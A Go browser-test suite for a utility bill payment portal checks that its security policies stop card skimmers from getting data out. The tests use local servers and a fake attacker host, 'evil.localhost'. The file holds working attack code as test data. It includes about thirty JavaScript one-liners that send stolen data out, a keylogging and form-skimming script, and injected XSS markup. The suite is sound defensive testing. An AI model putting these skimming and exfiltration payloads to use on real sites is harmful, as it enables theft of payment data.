package app

import (
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"clearwell/internal/clock"
	"clearwell/internal/web"
	"clearwell/internal/web/webtest"
)

// pump is a town as a browser meets it, with somebody in between who can change
// every byte, as on a town's own server in the second wave of attacks, and a
// server of the attacker's that notes what reaches it.
type pump struct {
	*testing.T
	tab    *webtest.Tab
	home   string // origin of the portal
	pay    string // address of the card page
	frames string // origin of the processor
	evil   *drop
	tamper atomic.Pointer[tampering]
}

// tampering changes an answer before the browser has it.
type tampering func(path string, header http.Header, body string) string

// drop is where an attacker's loot would arrive: by HTTP, or by a mere
// connection or packet.
type drop struct {
	origin string
	mu     sync.Mutex
	came   map[string]string // by the first segment of the path: all of it
	told   chan struct{}     // after each
}

func (d *drop) note(name, loot string) {
	d.mu.Lock()
	defer d.mu.Unlock()
	d.came[name] = loot
	select {
	case d.told <- struct{}{}:
	default:
	}
}

func (d *drop) has(name string) bool {
	d.mu.Lock()
	defer d.mu.Unlock()
	_, here := d.came[name]
	return here
}

func (d *drop) empty() {
	d.mu.Lock()
	defer d.mu.Unlock()
	d.came = map[string]string{}
}

// await waits until something has come, or for as long as a browser needs.
func (d *drop) await(name string) bool {
	late := time.NewTimer(3 * time.Second)
	defer late.Stop()
	for !d.has(name) {
		select {
		case <-d.told:
		case <-late.C:
			return d.has(name)
		}
	}
	return true
}

func (d *drop) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	d.note(strings.Trim(r.URL.Path, "/"), r.URL.String())
	w.Header().Set("Access-Control-Allow-Origin", "*")
	w.Header().Set("Content-Type", "text/html")
	fmt.Fprint(w, "<!doctype html><title>evil</title>")
}

func dropAt(t *testing.T) *drop {
	t.Helper()
	d := &drop{came: map[string]string{}, told: make(chan struct{}, 1)}
	server := httptest.NewServer(d)
	t.Cleanup(server.Close)
	d.origin = strings.Replace(server.URL, "127.0.0.1", "evil.localhost", 1)
	return d
}

// connections notes every connection to a port of its own, and every packet.
func (d *drop) connections(t *testing.T, name string) (port string) {
	t.Helper()
	stream, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	packets, err := net.ListenPacket("udp", stream.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	var listening sync.WaitGroup
	listening.Go(func() {
		for {
			line, err := stream.Accept()
			if err != nil {
				return
			}
			d.note(name, "a connection")
			line.Close()
		}
	})
	listening.Go(func() {
		for {
			if _, _, err := packets.ReadFrom(make([]byte, 1500)); err != nil {
				return
			}
			d.note(name, "a packet")
		}
	})
	t.Cleanup(func() { stream.Close(); packets.Close(); listening.Wait() })
	_, port, _ = net.SplitHostPort(stream.Addr().String())
	return port
}

// draw opens a town, a processor and a browser.
func draw(t *testing.T) *pump {
	t.Helper()
	p := &pump{T: t, tab: webtest.Open(t), evil: dropAt(t)}
	portal, processor := httptest.NewUnstartedServer(nil), httptest.NewUnstartedServer(nil)
	named := func(s *httptest.Server, name string) string {
		return "http://" + strings.Replace(s.Listener.Addr().String(), "127.0.0.1", name, 1)
	}
	p.home, p.frames = named(portal, "pay.shared.localhost"), named(processor, "processor.localhost")
	c := settleAt(t, p.home, p.frames)
	processor.Config.Handler = c.company.Handler()
	portal.Config = web.Server(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { p.between(c.doors, w, r) }), c.log)
	for _, server := range []*httptest.Server{portal, processor} {
		server.Start()
		t.Cleanup(server.Close)
	}
	p.tab.Size(1040, 900)
	p.tab.Go(p.home + "/eastwell/")
	p.tab.Do(chromedp.SendKeys("#utility_account", display(4)), chromedp.SendKeys("#house_number", "12"), chromedp.Click("main form button[type=submit]"))
	p.tab.Await(`location.pathname.includes("/bill/") && Boolean(document.querySelector("main form button[type=submit]"))`)
	p.tab.Do(chromedp.Click("main form button[type=submit]"))
	p.ready()
	p.pay = webtest.Ask[string](p.tab, `location.href`)
	return p
}

// ready waits until the processor's fields are there.
func (p *pump) ready() {
	p.Helper()
	p.tab.Await(`location.pathname.includes("/pay/quo") && Boolean(document.querySelector("iframe")) && document.querySelector("iframe").style.height !== ""`)
}

// gone waits until the window shows the attacker's page.
func (p *pump) gone() {
	p.Helper()
	p.tab.Await(`location.hostname === "evil.localhost"`)
}

// settleAt is one town with bills, and a processor at an origin.
func settleAt(t *testing.T, home, processor string) *cities {
	t.Helper()
	c := &cities{T: t, clk: clock.NewManual(clock.System().Now()), heard: &notices{}, shared: home, processor: processor}
	c.east = &place{slug: "eastwell", host: "pay.eastwell.localhost", street: "12 Eastmark Street", cents: 83_10, bankFolder: t.TempDir()}
	c.open("sqlite:" + t.TempDir() + "/town.db")
	c.must(c.found(t.Context(), "eastwell.yaml", c.east.file()))
	c.bill(c.east)
	return c
}

// between hands a request on, and what comes back to whoever tampers.
func (p *pump) between(doors http.Handler, w http.ResponseWriter, r *http.Request) {
	change := p.tamper.Load()
	if change == nil {
		doors.ServeHTTP(w, r)
		return
	}
	r.Header.Del("Accept-Encoding")
	caught := httptest.NewRecorder()
	doors.ServeHTTP(caught, r)
	for name, values := range caught.Header() {
		w.Header()[name] = values
	}
	body := (*change)(r.URL.Path, w.Header(), caught.Body.String())
	w.Header().Del("Content-Length")
	w.WriteHeader(caught.Code)
	fmt.Fprint(w, body)
}

// reload opens the card page again, changed or not.
func (p *pump) reload(change tampering) {
	p.Helper()
	p.tamper.Store(nil)
	if change != nil {
		p.tamper.Store(&change)
	}
	p.tab.Go(p.pay)
}

// unprotected takes the policies off, and leaves all else.
func unprotected(_ string, header http.Header, body string) string {
	header.Del("Content-Security-Policy")
	header.Del("Permissions-Policy")
	header.Del("Integrity-Policy")
	return body
}

// way is a way out of the page for a script that runs in it.
type way struct {
	name   string
	script string // EVIL is the attacker's origin, with the way's name as its path
	opens  bool   // the policy does not close it: see docs/threats.md, residual risks
}

func link(rel, more string) string {
	return `const l = document.createElement("link"); l.rel = "` + rel + `"; ` + more + ` l.href = EVIL; document.head.append(l);`
}

func element(tag, attribute string) string {
	return `const e = document.createElement("` + tag + `"); e.` + attribute + ` = EVIL; document.body.append(e);`
}

// ways are those that the page survives, so that one page tries them all.
func ways() []way {
	return []way{
		{name: "fetch", script: `fetch(EVIL, {method: "POST", mode: "no-cors", body: LOOT}).catch(() => {});`},
		{name: "keepalive", script: `fetch(EVIL, {method: "POST", mode: "no-cors", body: LOOT, keepalive: true}).catch(() => {});`},
		{name: "xhr", script: `const x = new XMLHttpRequest(); x.open("POST", EVIL); x.send(LOOT);`},
		{name: "beacon", script: `navigator.sendBeacon(EVIL, LOOT);`},
		{name: "image", script: `new Image().src = EVIL + "?" + LOOT;`},
		{name: "script", script: element("script", "src")},
		{name: "import", script: `import(EVIL).catch(() => {});`},
		{name: "iframe", script: element("iframe", "src")},
		{name: "object", script: element("object", "data")},
		{name: "embed", script: element("embed", "src")},
		{name: "audio", script: element("audio", "src") + ` e.load();`},
		{name: "video", script: element("video", "poster")},
		{name: "websocket", script: `new WebSocket(EVIL.replace("http", "ws"));`},
		{name: "eventsource", script: `new EventSource(EVIL);`},
		{name: "worker", script: `new Worker(URL.createObjectURL(new Blob(["fetch('" + EVIL + "', {mode: 'no-cors'})"], {type: "text/javascript"})));`},
		{name: "stylesheet", script: link("stylesheet", "")},
		{name: "style", script: `const s = document.createElement("style"); s.textContent = "html::before { content: url(" + EVIL + ") }"; document.head.append(s);`},
		{name: "background", script: `document.body.style.setProperty("background-image", "url(" + EVIL + ")");`},
		{name: "sheet", script: `const s = new CSSStyleSheet(); s.replaceSync("main { background: url(" + EVIL + ") }"); document.adoptedStyleSheets = [s];`},
		{name: "font", script: `new FontFace("stolen", "url(" + EVIL + ")").load().catch(() => {});`},
		{name: "manifest", script: link("manifest", "")},
		{name: "icon", script: link("icon", `document.querySelectorAll("link[rel~=icon]").forEach((old) => old.remove());`)},
		{name: "prefetch", script: link("prefetch", "")},
		{name: "preload", script: link("preload", `l.as = "image";`)},
		{name: "modulepreload", script: link("modulepreload", "")},
		{name: "ping", script: `const a = document.createElement("a"); a.href = "#stay"; a.ping = EVIL; document.body.append(a); a.click();`},
		{name: "form", script: `const f = document.createElement("form"); f.method = "post"; f.action = EVIL; f.target = "nowhere"; const n = document.createElement("iframe"); n.name = "nowhere"; document.body.append(n, f); f.submit();`},
		{name: "reframe", script: `document.querySelector("iframe").src = EVIL;`},
		{name: "preconnect", script: `const l = document.createElement("link"); l.rel = "preconnect"; l.href = "http://evil.localhost:" + PORTS.preconnect; document.head.append(l);`, opens: true},
		{name: "webrtc", script: `const c = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:" + PORTS.webrtc}]}); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o));`, opens: true},
	}
}

// try runs a script in the page, as somebody would who got one in.
func (p *pump) try(w way, ports map[string]string) {
	p.Helper()
	listed, err := json.Marshal(ports)
	if err != nil {
		p.Fatal(err)
	}
	webtest.Ask[string](p.tab, fmt.Sprintf(`(() => { const EVIL = %q, LOOT = "4242424242424242", PORTS = %s; try { %s return "" } catch (e) { return String(e) } })()`,
		p.evil.origin+"/"+w.name, listed, w.script))
}

// Every way out of the card page, tried by a script that runs in it: with the
// policy nothing arrives by any but those that the document of threats confesses;
// without it everything does, so that this test would notice.
func TestSkimmersWaysOutAreClosed(t *testing.T) {
	p := draw(t)
	ports := map[string]string{"preconnect": p.evil.connections(t, "preconnect"), "webrtc": p.evil.connections(t, "webrtc")}
	for _, protected := range []bool{false, true} {
		p.evil.empty()
		change := tampering(unprotected)
		if protected {
			change = nil
		}
		p.reload(change)
		p.ready()
		for _, w := range ways() {
			p.try(w, ports)
		}
		for _, w := range ways() {
			if (!protected || w.opens) && !p.evil.await(w.name) {
				t.Errorf("%s, protected %v: nothing arrives, so that this proves nothing", w.name, protected)
			}
		}
		// What leaves the page at last arrives after all that could have left before.
		p.try(way{name: "last", script: `location.href = EVIL + "?" + LOOT;`}, ports)
		if !p.evil.await("last") {
			t.Error("a page cannot be left any more: the residual risks say otherwise")
		}
		p.gone()
		for _, w := range ways() {
			if protected && !w.opens && p.evil.has(w.name) {
				t.Errorf("%s gets out: %s", w.name, p.evil.came[w.name])
			}
		}
	}
}

// Who runs a script in the page can take the window elsewhere, with what it
// knows in the address: no policy forbids it. The document of threats says so,
// and this test that it is still true.
func TestSkimmersLeaveByTheWindow(t *testing.T) {
	p := draw(t)
	for _, w := range []way{
		{name: "meta", script: `const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=" + EVIL; document.head.append(m);`},
		{name: "anchor", script: `const a = document.createElement("a"); a.href = EVIL; document.body.append(a); a.click();`},
		{name: "location", script: `location.assign(EVIL + "?" + LOOT);`},
		{name: "open", script: `window.open(EVIL);`}, // the last: the page is then behind another
	} {
		p.reload(nil)
		p.ready()
		p.try(w, nil)
		if !p.evil.await(w.name) {
			t.Errorf("%s is closed now: take it out of the residual risks", w.name)
		}
		if w.name != "open" {
			p.gone()
		}
	}
}

// hooks is the skimmer of the third wave, and what else a script in the page can
// listen to. What it hears it keeps beyond the page.
const hooks = `(() => {
	const keep = (what, text) => sessionStorage.setItem("loot", (sessionStorage.getItem("loot") || "") + what + ": " + text + "\n");
	for (const event of ["keydown", "keyup", "keypress", "beforeinput", "input", "change", "paste", "copy", "compositionend", "focusin"])
		addEventListener(event, (e) => keep(event, [e.key, e.data, e.target && e.target.value].join(" ")), true);
	addEventListener("message", (e) => keep("message", e.origin + " " + JSON.stringify(e.data)), true);
	addEventListener("submit", (e) => keep("submit", JSON.stringify([...new FormData(e.target)])), true);
	for (const button of document.querySelectorAll("button"))
		button.addEventListener("click", () => keep("click", JSON.stringify([...new FormData(button.form)])), true);
	const submit = HTMLFormElement.prototype.requestSubmit;
	HTMLFormElement.prototype.requestSubmit = function (by) { keep("requestSubmit", JSON.stringify([...new FormData(this)])); return submit.call(this, by); };
	const frame = document.querySelector("iframe");
	const look = () => {
		for (const [what, read] of Object.entries({
			contentDocument: () => frame.contentDocument && frame.contentDocument.body.innerHTML,
			document: () => frame.contentWindow.document.body.innerHTML,
			field: () => frames[0].document.getElementById("number").value,
			location: () => frame.contentWindow.location.href,
			focused: () => document.activeElement.value,
			selection: () => getSelection().toString(),
			svg: () => frame.getSVGDocument && frame.getSVGDocument(),
		})) { try { keep(what, read()); } catch (e) { keep(what, e.name); } }
	};
	look();
	addEventListener("blur", look, true);
	addEventListener("message", look);
	frame.contentWindow.postMessage({type: "clearwell.hello"}, "*");
	return true;
})()`

// A skimmer in the page, with all it can hook, while a card is typed and sent:
// it has the e-mail address and a token, and not a digit of the card.
func TestSkimmerReadsNothingOfTheCard(t *testing.T) {
	p := draw(t)
	webtest.Ask[bool](p.tab, hooks)
	p.tab.Do(chromedp.SendKeys("#email", "seen@example.com"))
	steps := []chromedp.Action[chromedp.Void]{chromedp.Focus("iframe")}
	for _, text := range []string{"4000056655665556", "0937", "862", "95014"} {
		steps = append(steps, chromedp.KeyEvent("\t"), chromedp.KeyEvent(text))
	}
	p.tab.Do(append(steps, chromedp.Click(`button[value="fields"]`))...)
	p.tab.Await(`location.pathname.includes("/review/")`)
	loot := webtest.Ask[string](p.tab, `sessionStorage.getItem("loot")`)
	for _, heard := range []string{"seen@example.com", `"type":"clearwell.token"`, "submit: ", "SecurityError"} {
		if !strings.Contains(loot, heard) {
			t.Errorf("the skimmer does not even hear %q, so that this proves nothing:\n%s", heard, loot)
		}
	}
	for _, digits := range []string{"4000", "5665", "5556", "0937", "862 ", "95014"} {
		if strings.Contains(withoutTokens(loot), digits) {
			t.Errorf("the skimmer has %q of the card:\n%s", digits, loot)
		}
	}
	for line := range strings.Lines(loot) {
		if key, ok := strings.CutPrefix(line, "keydown: "); ok && strings.ContainsAny(key[:1], "0123456789") {
			t.Errorf("the skimmer hears keys in the frame: %s", line)
		}
	}
}

var tokens = regexp.MustCompile(`(tok|quo|pay|vis)_[0-9a-z]+`)

func withoutTokens(loot string) string { return tokens.ReplaceAllString(loot, "") }

// injected is markup of an attacker's, as it would stand in a page that
// repeats what somebody sent. Each of its parts would run, or load.
const injected = `<script>window.owned = "inline"</script><script src="EVIL/script"></script>
<img src="EVIL/image" onerror="window.owned = 'onerror'"><svg onload="window.owned = 'onload'"></svg>
<iframe src="EVIL/iframe"></iframe><iframe srcdoc="<script>parent.owned = 'srcdoc'</script>"></iframe>
<a id="lure" href="javascript:window.owned = 'address'">x</a><object data="EVIL/object"></object>
<link rel="stylesheet" href="EVIL/stylesheet"><style>main { background: url(EVIL/style) }</style>
<base href="EVIL/base/"><form id="trap" method="post" action="EVIL/form"><input name="card" value="4242"></form>`

// Markup that got into the page runs nothing, loads nothing and posts nothing.
// Without the policy it does, so that this test would notice.
func TestInjectedMarkupDoesNothing(t *testing.T) {
	p := draw(t)
	markup := strings.ReplaceAll(injected, "EVIL", p.evil.origin)
	inject := func(path string, _ http.Header, body string) string {
		return strings.Replace(body, "</main>", markup+"</main>", 1)
	}
	p.reload(inject)
	p.ready()
	owned := webtest.Ask[string](p.tab, `document.querySelector("#lure").click(), document.querySelector("#trap").submit(), String(window.owned)`)
	if owned != "undefined" || !strings.HasPrefix(webtest.Ask[string](p.tab, `document.querySelector("main a").href`), p.home) {
		t.Errorf("injected markup runs as %s, or moves the page's links", owned)
	}
	p.try(way{name: "last", script: `location.href = EVIL;`}, nil)
	if !p.evil.await("last") || len(p.evil.came) != 1 {
		t.Errorf("injected markup reaches out: %v", p.evil.came)
	}
	p.gone()
	p.reload(func(path string, header http.Header, body string) string {
		return inject(path, header, unprotected(path, header, body))
	})
	p.tab.Await(`Boolean(window.owned)`)
	for _, name := range []string{"script", "image", "iframe", "object", "stylesheet", "style"} {
		if !p.evil.await(name) {
			t.Errorf("%s does nothing without a policy, so that this proves nothing", name)
		}
	}
}

// A script that is changed on its way does not run: the page names its digest.
// Whoever changes the page as well is stopped by nothing in a browser; that is
// what the prober looks for from outside.
func TestAChangedScriptDoesNotRun(t *testing.T) {
	p := draw(t)
	changed := func(as string) tampering { // under a name that the browser has not kept
		return func(path string, _ http.Header, body string) string {
			if strings.HasSuffix(path, ".js") {
				return body + ";window.owned = true"
			}
			return strings.ReplaceAll(body, `.js"`, `.js?`+as+`"`)
		}
	}
	p.reload(changed("once"))
	p.tab.Await(`document.readyState === "complete"`)
	if webtest.Ask[bool](p.tab, `Boolean(window.owned)`) || !webtest.Ask[bool](p.tab, `Boolean(document.querySelector("script[src$='once']"))`) {
		t.Error("a changed script runs, or is not in the page")
	}
	p.reload(func(path string, header http.Header, body string) string {
		header.Del("Integrity-Policy")
		return digests.ReplaceAllString(changed("again")(path, header, body), "")
	})
	p.tab.Await(`document.readyState === "complete"`)
	if !webtest.Ask[bool](p.tab, `Boolean(window.owned)`) {
		t.Error("a changed script does not run even where the page allows it: this proves nothing")
	}
}

var digests = regexp.MustCompile(` integrity="[^"]*"`)

// sinks turn text into markup or code.
var sinks = []string{
	`document.body.innerHTML = "<b>x</b>"`, `document.querySelector("p").outerHTML = "<b>x</b>"`, `document.body.insertAdjacentHTML("beforeend", "<b>x</b>")`,
	`document.write("<b>x</b>")`, `document.createRange().createContextualFragment("<b>x</b>")`, `new DOMParser().parseFromString("<b>x</b>", "text/html")`,
	`document.createElement("iframe").srcdoc = "<b>x</b>"`, `document.createElement("script").text = "1"`, `document.createElement("script").src = "/x.js"`,
	`document.body.setHTMLUnsafe("<b>x</b>")`, `trustedTypes.createPolicy("mine", {createHTML: (text) => text})`, `new Worker("/x.js")`,
}

// Text becomes neither markup nor code, whichever way a script tries it.
func TestTextNeverBecomesMarkup(t *testing.T) {
	p := draw(t)
	for _, sink := range sinks {
		said := webtest.Ask[string](p.tab, `(() => { try { `+sink+`; return "done" } catch (e) { return e.name } })()`)
		if said != "TypeError" {
			t.Errorf("%s: %s", sink, said)
		}
	}
}
